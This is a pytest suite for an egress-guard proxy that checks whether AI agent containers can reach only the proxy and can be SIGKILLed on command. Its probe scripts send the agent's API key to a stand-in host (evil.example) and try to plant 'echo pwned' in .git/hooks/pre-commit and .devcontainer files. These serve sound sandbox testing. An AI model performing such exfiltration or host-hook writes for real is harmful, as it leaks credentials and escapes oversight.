"""Containers run for real (issue #10 §2, §3): a private Docker engine, the agent image from
containers/agent/ on a local Debian base, egress-guard on the host with its Unix-socket
entrance, a real TLS upstream on loopback and the openai SDK inside the container.

The agent container has `network_mode: none`: only the socket (mounted, as compose.yaml
shares it) leads out, and it leads to egress-guard. `egress-guard kill` SIGKILLs labelled
containers within a second. containers/compose.yaml runs as written (images built from
containers/). Skipped — loudly — only where no Docker engine can be started.
"""

from __future__ import annotations

import contextlib
import hashlib
import http.server
import json
import os
import shutil
import socket
import socketserver
import sqlite3
import subprocess
import tempfile
import threading
import time
import urllib.parse
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import NoReturn

import pytest
import yaml
from click.testing import CliRunner, Result
from docker_support import AGENT_IMAGE, REPO, Dockerd, DockerUnavailable, agent_site, log
from support.proxy import RunningProxy, write_config
from support.upstream import Upstream

from egress_guard import docker_kill
from egress_guard import keys as keys_mod
from egress_guard.cli import main
from egress_guard.config import load_config

PROBE = r"""
import json, os, socket
out = {"interfaces": sorted(os.listdir("/sys/class/net")), "uid": os.getuid()}

def tcp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((host, port))
        return "connected"
    except OSError as e:
        return "errno %s" % e.errno
    finally:
        s.close()

out["tcp_upstream"] = tcp("127.0.0.1", int(os.environ["UPSTREAM_PORT"]))
if os.environ.get("HOST_IP"):
    out["tcp_host"] = tcp(os.environ["HOST_IP"], int(os.environ["HOST_PORT"]))
out["tcp_external"] = tcp("192.0.2.1", 443)
out["tcp_ipv6"] = tcp("2001:db8::1", 443, socket.AF_INET6)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"x", ("192.0.2.1", 53))
    out["udp"] = "sent"
except OSError as e:
    out["udp"] = "errno %s" % e.errno
for name in ("example.com", "api.openai.com"):
    try:
        out["dns " + name] = sorted({a[4][0] for a in socket.getaddrinfo(name, 443)})
    except socket.gaierror as e:
        out["dns " + name] = "gaierror"

import openai
client = openai.OpenAI(base_url="https://api.openai.com:%s/v1" % os.environ["UPSTREAM_PORT"], max_retries=0)
reply = client.chat.completions.create(model="gpt-4o-mini", max_tokens=7, messages=[{"role": "user", "content": "hi"}])
out["sdk"] = reply.choices[0].message.content
print("PROBE " + json.dumps(out))
"""

SLEEPER = (
    "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); signal.signal(signal.SIGINT, signal.SIG_IGN); "
    "print('up', flush=True); time.sleep(3600)"
)


def skip_loudly(message: str) -> NoReturn:
    log(message)
    warnings.warn(message, stacklevel=2)
    pytest.skip(message)


@pytest.fixture(scope="session")
def engine() -> Iterator[Dockerd]:
    root = Path(tempfile.mkdtemp(prefix="egd-", dir="/tmp"))  # short: the socket path must fit
    dockerd = Dockerd(root)
    try:
        dockerd.start()
        dockerd.import_base()
        dockerd.build_agent_image()
    except DockerUnavailable as exc:
        dockerd.stop()
        skip_loudly(f"NO DOCKER ENGINE, the container tests of issue #10 did NOT run: {exc}")
    except BaseException:
        dockerd.stop()
        raise
    try:
        yield dockerd
    finally:
        log(", ".join(f"{k}: {v * 1000:.0f} ms" for k, v in dockerd.timings.items()))
        dockerd.stop()


@pytest.fixture(scope="session")
def site(engine: Dockerd) -> Path:
    try:
        return agent_site()
    except DockerUnavailable as exc:
        skip_loudly(f"the SDK container tests of issue #10 did NOT run: {exc}")


@pytest.fixture
def sock_dir() -> Iterator[Path]:
    path = Path(tempfile.mkdtemp(prefix="egs-", dir="/tmp"))
    path.chmod(0o755)  # the agent's non-root user must reach the socket in it
    yield path
    shutil.rmtree(path, ignore_errors=True)


def host_address() -> str | None:
    """This machine's own non-loopback address (what a container on a bridge would reach)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.connect(("192.0.2.1", 9))  # no packet is sent: only picks the route's source address
        address = s.getsockname()[0]
    except OSError:
        return None
    finally:
        s.close()
    return None if address.startswith("127.") else address


def agent_env(config_path: Path, agent: str = "researcher") -> dict[str, str]:
    result = CliRunner().invoke(main, ["env", "--config", str(config_path), "--agent", agent, "--format", "json"])
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def share_like_compose(env: dict[str, str], ca_dir: Path, shared: Path) -> None:
    """What containers/start-egress-guard.sh does: the CA's public files and agent.env next
    to the socket, CA paths rewritten to where the agent mounts that directory."""
    for name in ("egress-guard-ca.pem", "ca-bundle.pem"):
        shutil.copy(ca_dir / name, shared / name)
        (shared / name).chmod(0o644)
    text = "".join(f"{k}={v.replace(str(ca_dir) + '/', '/run/egress-guard/')}\n" for k, v in env.items())
    (shared / "agent.env").write_text(text)
    (shared / "agent.env").chmod(0o644)


def test_agent_container_reaches_only_egress_guard(
    engine: Dockerd,
    site: Path,
    sock_dir: Path,
    tmp_path: Path,
    cred_config: dict,
    real_env: dict,
    llm_upstream: Upstream,
) -> None:
    config = write_config(tmp_path, cred_config)
    proxy = RunningProxy(config, listen_unix=sock_dir / "proxy.sock").start()
    outside = socket.create_server(("0.0.0.0", 0))  # a host service a container could reach if it had a route
    try:
        host_ip = host_address()
        if host_ip:
            socket.create_connection((host_ip, outside.getsockname()[1]), 2).close()  # reachable from the host
        env = agent_env(config.path)
        assert env["HTTPS_PROXY"] == "http://127.0.0.1:8080" and env["OPENAI_API_KEY"] not in real_env.values()
        share_like_compose(env, config.ca_dir, sock_dir)
        (tmp_path / "probe.py").write_text(PROBE)
        started = time.monotonic()
        done = engine.docker(
            "run", "--rm", "--network", "none", "--user", "10002:10002", "--cap-drop", "ALL",
            "--security-opt", "no-new-privileges:true", "--label", "egress-guard.agent=researcher",
            "-v", f"{sock_dir}:/run/egress-guard:ro", "-v", f"{site}:/opt/agent-site:ro",
            "-v", f"{tmp_path / 'probe.py'}:/probe.py:ro",
            "-e", "EG_ENV_FILE=/run/egress-guard/agent.env", "-e", "PYTHONPATH=/opt/agent-site",
            "-e", f"UPSTREAM_PORT={llm_upstream.port}", "-e", f"HOST_IP={host_ip or ''}",
            "-e", f"HOST_PORT={outside.getsockname()[1]}",
            AGENT_IMAGE, "python3", "/probe.py",
            check=False, timeout=120,
        )  # fmt: skip
        engine.timings["agent run with SDK call"] = time.monotonic() - started
        assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-3000:]
        line = next(ln for ln in done.stdout.splitlines() if ln.startswith("PROBE "))
        seen = json.loads(line.removeprefix("PROBE "))
        log(f"inside the agent container: {seen}")
        assert seen["interfaces"] == ["lo"] and seen["uid"] == 10002
        assert seen["tcp_upstream"] == "errno 111"  # 127.0.0.1 is the container's own loopback
        assert seen["tcp_external"] == "errno 101"  # ENETUNREACH: no route at all
        if host_ip:
            assert seen["tcp_host"] == "errno 101"
        assert seen["tcp_ipv6"] in ("errno 101", "errno 99", "errno 97")
        assert seen["udp"] == "errno 101"
        assert seen["dns example.com"] == "gaierror" and seen["dns api.openai.com"] == "gaierror"
        assert seen["sdk"] == "pong"
        rows = [r for r in proxy.rows(expect=1) if r["kind"] == "request" and r["host"] == "api.openai.com"]
        assert rows, proxy.rows()
        row = rows[-1]
        assert (row["decision"], row["agent"], row["session"]) == ("allow", "researcher", env["EGRESS_GUARD_SESSION"])
        assert row["cost_usd"] is not None and float(row["cost_usd"]) > 0
        for secret in real_env.values():
            assert secret not in done.stdout + done.stderr
    finally:
        outside.close()
        proxy.stop()


def test_kill_sigkills_the_agents_labelled_containers_within_a_second(engine: Dockerd, tmp_path: Path) -> None:
    config = write_config(
        tmp_path, {"allowlists": ["openai"], "services": ["openai"], "agents": {"researcher": {"services": ["openai"]}}}
    )
    session = agent_env(config.path)["EGRESS_GUARD_SESSION"]
    labels = {
        "a": ["--label", "egress-guard.agent=researcher", "--label", f"egress-guard.session={session}"],
        "other": ["--label", "egress-guard.agent=writer"],
        "b": ["--label", "egress-guard.agent=researcher2", "--label", "egress-guard.session=s-other"],
    }
    ids = {}
    for name, label in labels.items():
        started = time.monotonic()
        ids[name] = engine.docker(
            "run", "-d", "--network", "none", *label, AGENT_IMAGE, "python3", "-c", SLEEPER
        ).stdout.strip()
        while "up" not in engine.docker("logs", ids[name]).stdout:
            time.sleep(0.02)
        engine.timings.setdefault("container start (run -d until its python runs)", time.monotonic() - started)
    pid = engine.pid(ids["a"])
    started = time.monotonic()
    result = CliRunner().invoke(
        main, ["kill", "--config", str(config.path), "--agent", "researcher"], env={"DOCKER_HOST": engine.host}
    )
    returned = time.monotonic() - started
    while os.path.exists(f"/proc/{pid}") and time.monotonic() - started < 5:
        time.sleep(0.005)
    gone = time.monotonic() - started
    engine.timings["kill --agent: command returned"] = returned
    engine.timings["kill --agent: container process gone"] = gone
    assert result.exit_code == 0, result.output
    assert "revoked 1 key(s) of agent researcher" in result.output
    assert (
        f"killed container {engine.docker('inspect', '-f', '{{.Name}}', ids['a']).stdout.strip().lstrip('/')}"
        in result.output
    )
    assert gone < 1.0, f"the agent's container lived {gone:.2f} s after kill"
    state = engine.state(ids["a"])
    assert (state["Running"], state["ExitCode"]) == (False, 137)  # SIGKILL: nothing it could trap
    assert engine.state(ids["other"])["Running"] and engine.state(ids["b"])["Running"]  # other agents untouched
    with sqlite3.connect(config.audit_path) as db:
        reasons = [r for (r,) in db.execute("SELECT reason FROM revocations WHERE agent = 'researcher' ORDER BY id")]
    assert reasons[0] == "kill switch"
    assert reasons[1].startswith("kill switch: SIGKILLed container(s) ") and ids["a"][:12] in reasons[1]
    # by session: only that session's container
    result = CliRunner().invoke(
        main, ["kill", "--config", str(config.path), "--session", "s-other"], env={"DOCKER_HOST": engine.host}
    )
    assert result.exit_code == 0 and "killed container" in result.output, result.output
    assert not engine.state(ids["b"])["Running"] and engine.state(ids["other"])["Running"]


def kill_cli(config: Path, *args: str, **env: str | None) -> Result:
    return CliRunner().invoke(main, ["kill", "--config", str(config), *args], env=env)


def researcher_config(tmp_path: Path) -> Path:
    config = write_config(
        tmp_path, {"allowlists": ["openai"], "services": ["openai"], "agents": {"researcher": {"services": ["openai"]}}}
    )
    agent_env(config.path)
    assert keys_mod.list_keys(config)
    return config.path


def active_keys(config: Path) -> list[dict]:
    return keys_mod.list_keys(load_config(config))


def test_kill_without_a_docker_engine_revokes_the_keys_and_says_no_engine_was_asked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing names an engine and the default socket is absent: the keys only, and one line
    says no engine was asked (not only with -v)."""
    config = researcher_config(tmp_path)
    monkeypatch.setattr(docker_kill, "DEFAULT_HOST", f"unix://{tmp_path}/no-docker.sock")
    result = kill_cli(config, "--agent", "researcher", DOCKER_HOST=None, DOCKER_CONTEXT=None, HOME=str(tmp_path))
    assert result.exit_code == 0, result.output
    assert result.stdout == "revoked 1 key(s) of agent researcher\n"
    assert "containers: no Docker engine was asked" in result.stderr and "no-docker.sock" in result.stderr


@pytest.mark.parametrize(
    ("env", "expect"),
    [
        ({"DOCKER_HOST": "unix://{tmp}/no-docker.sock"}, "no Docker engine answers at unix://"),
        ({"DOCKER_HOST": "ssh://admin@build-host"}, "is neither unix:// nor tcp://"),
        ({"DOCKER_HOST": "tcp://127.0.0.1:2376", "DOCKER_TLS_VERIFY": "1"}, "needs TLS"),
        ({"DOCKER_CONTEXT": "remote"}, "no Docker engine answers at unix://{tmp}/ctx.sock (No such file"),
    ],
    ids=["unreachable", "ssh", "tls", "context"],
)
def test_kill_fails_closed_when_the_engine_named_cannot_be_asked(
    tmp_path: Path, env: dict[str, str], expect: str
) -> None:
    """DOCKER_HOST (or a docker context) names an engine the kill switch cannot ask: the keys
    are revoked first all the same, then the failure is named and the exit status is 1."""
    config = researcher_config(tmp_path)
    meta = tmp_path / ".docker" / "contexts" / "meta" / hashlib.sha256(b"remote").hexdigest()
    meta.mkdir(parents=True)
    (meta / "meta.json").write_text(
        json.dumps({"Name": "remote", "Endpoints": {"docker": {"Host": f"unix://{tmp_path}/ctx.sock"}}})
    )
    env = {k: v.format(tmp=tmp_path) for k, v in env.items()}
    result = kill_cli(config, "--agent", "researcher", HOME=str(tmp_path), **{"DOCKER_HOST": None, **env})
    assert result.exit_code == 1, result.output
    assert result.stdout == "revoked 1 key(s) of agent researcher\n"
    assert "egress-guard: containers not killed: " in result.stderr
    assert expect.format(tmp=tmp_path) in result.stderr, result.stderr
    assert active_keys(config) == []


def test_compose_file_is_valid_and_keeps_the_agent_off_the_network() -> None:
    if not shutil.which("docker-compose"):
        pytest.skip("docker-compose not installed (apt-get install docker-compose)")
    done = subprocess.run(
        ["docker-compose", "-f", str(REPO / "containers" / "compose.yaml"), "config"], capture_output=True, text=True
    )
    spec = yaml.safe_load(done.stdout)
    assert done.returncode == 0, done.stderr
    agent = spec["services"]["agent"]
    assert agent["network_mode"] == "none" and agent["cap_drop"] == ["ALL"] and agent["user"] == "10002:10002"
    assert agent["labels"]["egress-guard.agent"] == "agent" and agent["init"] is True
    assert agent["labels"]["egress-guard.session"] == "compose"  # `kill --session` finds it
    assert spec["services"]["egress-guard"]["environment"]["EG_SESSION"] == "compose"  # the keys' session
    assert agent["read_only"] is True and agent["pids_limit"] == 512 and agent["mem_limit"] in ("2g", 2147483648)
    assert not any("egress-data" in str(v) for v in agent.get("volumes", [])), "the agent never mounts /data"
    assert "OPENAI_API_KEY" not in agent.get("environment", {})


DEVCONTAINER_PROBE = r"""
import os
for path in (".devcontainer/agent.env", ".devcontainer/devcontainer.json", ".git/hooks/pre-commit",
             "/run/egress-guard/x", "notes.txt"):
    try:
        with open(path, "a") as f:
            f.write("echo pwned\\n")
        print("write", path, "ok")
    except OSError as e:
        print("write", path, "errno", e.errno)
print("session", os.environ.get("EGRESS_GUARD_SESSION"))
"""


def test_devcontainer_keeps_the_agent_off_the_hosts_devcontainer_and_git(engine: Dockerd, tmp_path: Path) -> None:
    """containers/devcontainer/devcontainer.json's runArgs and mounts, run as `docker run`: the
    agent writes the workspace but not .devcontainer/ (initializeCommand runs on the host)
    nor .git/ (hooks run on the host) nor /run/egress-guard; the container carries the
    session label the keys were minted for."""
    text = (REPO / "containers" / "devcontainer" / "devcontainer.json").read_text()
    spec = json.loads("\n".join(line for line in text.splitlines() if not line.lstrip().startswith("//")))
    workspace, home, shared = tmp_path / "proj", tmp_path / "home", tmp_path / "run"
    for d in (workspace / ".devcontainer", workspace / ".git" / "hooks", home / ".egress-guard" / "certs", shared):
        d.mkdir(parents=True)
    for name in ("egress-guard-ca.pem", "ca-bundle.pem"):
        (home / ".egress-guard" / "certs" / name).write_text("")
    (workspace / ".devcontainer" / "agent.env").write_text("EGRESS_GUARD_SESSION=devcontainer-proj\n")
    (workspace / ".devcontainer" / "agent.env").chmod(0o666)
    for d in (workspace, workspace / ".devcontainer", workspace / ".git" / "hooks", shared):
        d.chmod(0o777)  # the agent (uid 10002) could write them, were they not mounted read-only

    def subst(value: str) -> str:
        return (
            value.replace("${localWorkspaceFolderBasename}", workspace.name)
            .replace("${localWorkspaceFolder}", str(workspace))
            .replace("${localEnv:HOME}", str(home))
            .replace("source=/run/egress-guard,", f"source={shared},")
        )

    assert "--session devcontainer-${localWorkspaceFolderBasename}" in spec["initializeCommand"]
    args = [subst(a) for a in spec["runArgs"]]
    for mount in [*spec["mounts"], spec["workspaceMount"]]:
        args += ["--mount", subst(mount)]
    container = engine.docker(
        "run", "-d", *args, "--user", "10002:10002", "-w", spec["workspaceFolder"], "--entrypoint", "python3",
        AGENT_IMAGE, "-c", DEVCONTAINER_PROBE,
    ).stdout.strip()  # fmt: skip
    try:
        assert engine.docker("wait", container, timeout=60).stdout.strip() == "0"
        out = engine.docker("logs", container).stdout
        log(f"devcontainer: {out.strip()}")
        labels = json.loads(engine.docker("inspect", "-f", "{{json .Config.Labels}}", container).stdout)
    finally:
        engine.docker("rm", "-f", container)
    for path in (
        ".devcontainer/agent.env",
        ".devcontainer/devcontainer.json",
        ".git/hooks/pre-commit",
        "/run/egress-guard/x",
    ):
        assert f"write {path} errno 30" in out, out  # EROFS
    assert "write notes.txt ok" in out and (workspace / "notes.txt").exists()
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
    assert "session devcontainer-proj" in out
    assert labels["egress-guard.agent"] == "agent" and labels["egress-guard.session"] == "devcontainer-proj"


COMPOSE_PROBE = r"""
import os, socket, urllib.request, urllib.error
print("interfaces", sorted(os.listdir("/sys/class/net")), "uid", os.getuid())
try:
    socket.create_connection(("192.0.2.1", 443), 3)
    print("direct: connected")
except OSError as e:
    print("direct: errno", e.errno)
print("fake key", os.environ.get("OPENAI_API_KEY", "")[:8], "agent", os.environ.get("EGRESS_GUARD_AGENT"),
      "session", os.environ.get("EGRESS_GUARD_SESSION"))
for d in ("/home/agent", "/tmp"):
    try:
        open(d + "/probe", "w").close()
        print("write", d, "ok")
    except OSError as e:
        print("write", d, "errno", e.errno)
for url in ("https://evil.example/", "https://api.openai.com/v1/models"):
    req = urllib.request.Request(url, headers={"Authorization": "Bearer " + os.environ.get("OPENAI_API_KEY", "")})
    try:
        print(url, "status", urllib.request.urlopen(req, timeout=30).status)
    except urllib.error.HTTPError as e:
        print(url, "HTTP", e.code)
    except OSError as e:
        print(url, "error", e)
"""


def test_compose_file_runs_agent_without_network_through_egress_guard(engine: Dockerd, tmp_path: Path) -> None:
    """containers/compose.yaml itself, on the private engine: the egress-guard image built from
    containers/Dockerfile (offline wheelhouse, local base), the agent image from
    containers/agent/; the agent's requests reach egress-guard through the shared socket."""
    from docker_support import BASE_IMAGE, egress_guard_context

    started = time.monotonic()
    try:
        context = egress_guard_context(tmp_path / "context")
    except DockerUnavailable as exc:
        skip_loudly(f"the compose test of issue #10 did NOT run: {exc}")
    engine.docker(
        "build", "-q", "--build-arg", f"BASE={BASE_IMAGE}",
        "--build-arg", "PIP_ARGS=--no-index --find-links /src/containers/wheelhouse",
        "-f", str(context / "containers" / "Dockerfile"), "-t", "egress-guard", str(context), timeout=300,
    )  # fmt: skip
    shutil.rmtree(context)  # the wheels: not worth keeping (nor scanning for secrets) in tmp
    engine.docker("tag", AGENT_IMAGE, "egress-guard-agent")
    engine.timings["egress-guard image build"] = time.monotonic() - started
    (tmp_path / "override.yaml").write_text(
        yaml.safe_dump({"version": "3.8", "services": {"agent": {"command": ["python3", "-c", COMPOSE_PROBE]}}})
    )
    compose = [
        "docker-compose", "-p", "egtest", "-f", str(REPO / "containers" / "compose.yaml"),
        "-f", str(tmp_path / "override.yaml"),
    ]  # fmt: skip
    env = {**engine.env, "OPENAI_API_KEY": "", "EG_SESSION": "egtest-7"}

    def run(*args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
        return subprocess.run([*compose, *args], env=env, capture_output=True, text=True, timeout=timeout)

    try:
        started = time.monotonic()
        up = run("up", "-d")
        assert up.returncode == 0, up.stderr[-2000:]
        agent = run("ps", "-q", "agent").stdout.strip()
        assert engine.docker("wait", agent, timeout=90).stdout.strip() == "0"
        engine.timings["compose up until the agent is done"] = time.monotonic() - started
        out = engine.docker("logs", agent).stdout
        log(f"compose agent: {out.strip()}")
        audit = run("exec", "-T", "egress-guard", "egress-guard", "audit", "--config", "/data/egress-guard.yaml", "--format", "json")  # fmt: skip
        rows = json.loads(audit.stdout)
        log(f"compose audit: {[(r['host'], r['decision'], r['status'], r['agent'], r['reason']) for r in rows]}")
        assert "interfaces ['lo'] uid 10002" in out and "direct: errno 101" in out
        assert "agent agent session egtest-7" in out and "fake key sk-" in out
        assert "write /home/agent errno 30" in out and "write /tmp ok" in out  # read_only, tmpfs /tmp
        labels = json.loads(engine.docker("inspect", "-f", "{{json .Config.Labels}}", agent).stdout)
        assert labels["egress-guard.session"] == "egtest-7" and labels["egress-guard.agent"] == "agent"
        assert "Tunnel connection failed: 403" in out  # evil.example: egress-guard refused it
        # api.openai.com: TLS with egress-guard's CA (shared next to the socket), the fake key
        # names the agent; the test engine has no way out, so egress-guard cannot resolve it
        assert "https://api.openai.com/v1/models HTTP 403" in out
        assert any(r["host"] == "evil.example" and r["decision"] == "deny" for r in rows), rows
        assert any(
            r["host"] == "api.openai.com" and r["agent"] == "agent" and "does not resolve" in r["reason"] for r in rows
        ), rows
    finally:
        run("down", "-v", "-t", "5")


STREAMER = r"""
import os, signal, urllib.request
signal.signal(signal.SIGTERM, signal.SIG_IGN)
req = urllib.request.Request("https://api.openai.com:%s/v1/slow" % os.environ["UPSTREAM_PORT"],
                             headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})
with urllib.request.urlopen(req, timeout=60) as r:
    for n, line in enumerate(r):
        if n == 0:
            print("streaming", flush=True)
print("stream ended", flush=True)
"""


def test_kill_while_the_container_streams_through_egress_guard(
    engine: Dockerd, sock_dir: Path, tmp_path: Path, cred_config: dict, real_env: dict, llm_upstream: Upstream
) -> None:
    # another port than 8080 in the proxy variables: eg-forward listens where they point
    config = write_config(tmp_path, {**cred_config, "listen": "127.0.0.1:18999"})
    proxy = RunningProxy(config, listen_unix=sock_dir / "proxy.sock").start()
    try:
        env = agent_env(config.path)
        assert env["HTTPS_PROXY"] == "http://127.0.0.1:18999"
        share_like_compose(env, config.ca_dir, sock_dir)
        container = engine.docker(
            "run", "-d", "--network", "none", "--user", "10002:10002", "--cap-drop", "ALL",
            "--label", "egress-guard.agent=researcher", "--label", f"egress-guard.session={env['EGRESS_GUARD_SESSION']}",
            "-v", f"{sock_dir}:/run/egress-guard:ro", "-e", "EG_ENV_FILE=/run/egress-guard/agent.env",
            "-e", f"UPSTREAM_PORT={llm_upstream.port}", AGENT_IMAGE, "python3", "-c", STREAMER,
        ).stdout.strip()  # fmt: skip
        deadline = time.monotonic() + 30
        while "streaming" not in engine.docker("logs", container).stdout and time.monotonic() < deadline:
            time.sleep(0.02)
        assert "streaming" in engine.docker("logs", container).stdout, engine.docker("logs", container).stderr
        pid = engine.pid(container)
        started = time.monotonic()
        result = CliRunner().invoke(
            main,
            ["kill", "--config", str(config.path), "--session", env["EGRESS_GUARD_SESSION"]],
            env={"DOCKER_HOST": engine.host},
        )
        while os.path.exists(f"/proc/{pid}") and time.monotonic() - started < 5:
            time.sleep(0.005)
        gone = time.monotonic() - started
        engine.timings["kill --session while streaming: container process gone"] = gone
        assert result.exit_code == 0 and "killed container" in result.output, result.output
        assert gone < 1.0
        # 137: SIGKILL, which the agent cannot ignore. Whether its stream was cut first by the
        # proxy (the key is revoked in the store) or by the kill is a race both ways end well.
        assert engine.state(container)["ExitCode"] == 137
    finally:
        proxy.stop()


class _Engine(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
    daemon_threads = True


@contextlib.contextmanager
def fake_engine(path: Path, containers: list[dict], kill_status: int = 204) -> Iterator[str]:
    """A Docker Engine API stand-in on a Unix socket: lists `containers` by label filter;
    answers every kill with `kill_status`. Yields its DOCKER_HOST."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def address_string(self) -> str:
            return "docker"

        def log_message(self, *args: object) -> None:
            pass

        def _send(self, status: int, body: object) -> None:
            data = json.dumps(body).encode() if body is not None else b""
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def do_GET(self) -> None:
            query = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)
            key, _, value = json.loads(query["filters"][0])["label"][0].partition("=")
            self._send(200, [c for c in containers if c["Labels"].get(key) == value])

        def do_POST(self) -> None:
            body = {"message": "cannot kill container: permission denied"} if kill_status >= 400 else None
            self._send(kill_status, body)

    server = _Engine(str(path), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"unix://{path}"
    finally:
        server.shutdown()
        server.server_close()


def test_kill_session_says_so_when_the_agents_containers_lack_the_session_label(tmp_path: Path) -> None:
    """`kill --session S` finds no container labelled with S, but S's agent has running
    containers (started without the session label): the output says they were not killed."""
    config = write_config(tmp_path, {"allowlists": ["openai"], "services": ["openai"], "agents": {"researcher": {"services": ["openai"]}}})  # fmt: skip
    session = agent_env(config.path)["EGRESS_GUARD_SESSION"]
    box = {"Id": "a" * 64, "Names": ["/box"], "Labels": {"egress-guard.agent": "researcher"}}
    with fake_engine(tmp_path / "d.sock", [box]) as host:
        result = kill_cli(config.path, "--session", session, DOCKER_HOST=host)
    assert result.exit_code == 0, result.output
    assert (
        f"containers: none labelled egress-guard.session={session}; running container(s) of researcher without it "
        "were NOT killed: box (aaaaaaaaaaaa)" in result.stderr
    ), result.stderr
    labelled = {**box, "Labels": {**box["Labels"], "egress-guard.session": session}}
    with fake_engine(tmp_path / "d2.sock", [labelled]) as host:
        result = kill_cli(config.path, "--session", session, DOCKER_HOST=host)
    assert result.exit_code == 0 and "killed container box (aaaaaaaaaaaa) (SIGKILL)" in result.stdout, result.output
    assert "NOT killed" not in result.stderr


def test_kill_says_so_and_exits_1_when_the_engine_will_not_kill(tmp_path: Path) -> None:
    """An engine that lists the agent's container but refuses to kill it: the keys are
    revoked all the same, the failure is named, the exit status is 1, the record notes it."""
    config = write_config(tmp_path, {"allowlists": ["openai"], "services": ["openai"], "agents": {"researcher": {"services": ["openai"]}}})  # fmt: skip
    agent_env(config.path)
    stuck = {"Id": "f" * 64, "Names": ["/stuck"], "Labels": {"egress-guard.agent": "researcher"}}
    with fake_engine(tmp_path / "d.sock", [stuck], kill_status=500) as host:
        result = kill_cli(config.path, "--agent", "researcher", DOCKER_HOST=host)
    assert result.exit_code == 1
    assert "revoked 1 key(s) of agent researcher" in result.stdout
    assert (
        "could not kill container stuck (ffffffffffff): 500 cannot kill container: permission denied" in result.stderr
    )
    with sqlite3.connect(config.audit_path) as db:
        reasons = [r for (r,) in db.execute("SELECT reason FROM revocations ORDER BY id")]
    assert reasons == [
        "kill switch",
        "kill switch: could not kill stuck (ffffffffffff): 500 cannot kill container: permission denied",
    ]
